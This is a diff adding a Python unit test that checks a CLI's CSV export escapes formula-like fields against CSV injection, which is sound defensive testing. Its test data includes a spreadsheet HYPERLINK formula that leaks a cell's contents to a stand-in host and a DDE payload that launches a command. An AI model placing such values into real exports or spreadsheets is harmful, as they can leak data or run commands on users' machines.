@@ -10,7 +10,7 @@ from typer.testing import CliRunner
 
 from kkod.cli.app import app
 from kkod.employer.database import open_register
-from kkod.employer.export import FIELDS
+from kkod.employer.export import FIELDS, to_csv, to_json
 from kkod.employer.importer import import_reply
 
 runner = CliRunner()
@@ -91,3 +91,19 @@ def test_an_existing_export_file_is_kept_unless_forced(employer_env, tmp_path):
     assert out.read_bytes().startswith(b"\xef\xbb\xbf")
     kept = tmp_path / "nyilvantartas.bak.csv"
     assert kept.read_text(encoding="utf-8") == "a DMS-nek tegnap átadott lista"
+
+
+def test_csv_fields_that_look_like_formulas_are_shown_as_written_not_run():
+    """CSV injection (OWASP): a record id or name starting with = + - @ gets a leading
+    apostrophe in the CSV, so Excel shows it as text; the JSON export keeps it as is."""
+    record = dict.fromkeys(FIELDS, "Kiss Anna")
+    record["belso_azonosito"] = '=HYPERLINK("http://x.invalid/?"&D2)'
+    record["viselt_nev"] = "+cmd|' /C calc'!A0"
+    record["anyja_szuletesi_neve"] = "-Nagy Mária"
+    rows = list(csv.reader(io.StringIO(to_csv([record]).decode("utf-8-sig")), delimiter=";"))
+    fields = dict(zip(FIELDS, rows[1], strict=True))
+    assert fields["belso_azonosito"] == "'" + record["belso_azonosito"]
+    assert fields["viselt_nev"] == "'" + record["viselt_nev"]
+    assert fields["anyja_szuletesi_neve"] == "'-Nagy Mária"
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in rows[1])
+    assert json.loads(to_json([record]))[0]["viselt_nev"] == record["viselt_nev"]
